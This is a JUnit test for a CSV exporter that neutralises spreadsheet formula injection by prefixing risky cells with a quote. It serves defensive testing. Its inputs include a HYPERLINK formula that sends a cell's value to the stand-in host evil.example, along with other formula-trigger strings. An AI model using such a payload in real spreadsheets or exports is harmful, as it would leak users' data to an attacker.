package org.servicepact.platform.web;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import static org.junit.jupiter.api.Assertions.assertEquals;

class FormulaSafeCsvExporterTest {

    @ParameterizedTest
    @ValueSource(strings = {"=HYPERLINK(\"http://evil.example/?x=\"&A2,\"x\")", "+1+2", "-2+3", "@SUM(A1:A9)", "\tcmd", "\rcmd", "=1", "-", "+"})
    void aCellThatWouldStartAFormulaBecomesText(String value) {
        assertEquals("'" + value, FormulaSafeCsvExporter.neutralised(value));
    }

    @ParameterizedTest
    @ValueSource(strings = {"Finance", "-3", "+1.5", "-12 %", "-0,5", "'=already text", "a=b", ""})
    void everythingElseStaysAsItIs(String value) {
        assertEquals(value, FormulaSafeCsvExporter.neutralised(value));
    }
}
